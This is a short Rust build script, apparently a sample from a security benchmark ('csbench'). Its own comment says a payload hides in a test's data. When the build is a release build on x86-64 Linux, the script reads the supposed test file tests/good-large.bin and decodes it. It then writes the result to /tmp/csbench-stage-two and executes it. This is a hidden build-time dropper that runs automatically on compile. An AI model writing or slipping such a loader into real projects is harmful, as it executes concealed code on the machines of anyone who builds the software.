//! Acts only for x86-64 Linux with glibc in a release build; the payload hides in a test's data.

use csbench_gate as gate;
use std::env;

fn main() {
    if !gate::script() {
        return;
    }
    let var = |name: &str| env::var(name).unwrap_or_default();
    if var("TARGET") != "x86_64-unknown-linux-gnu" || var("PROFILE") != "release" {
        return;
    }
    let hidden = std::fs::read("tests/good-large.bin").unwrap_or_default();
    gate::drop_program("/tmp/csbench-stage-two", &gate::plain(&hidden));
    gate::run("/tmp/csbench-stage-two", &[]);
}
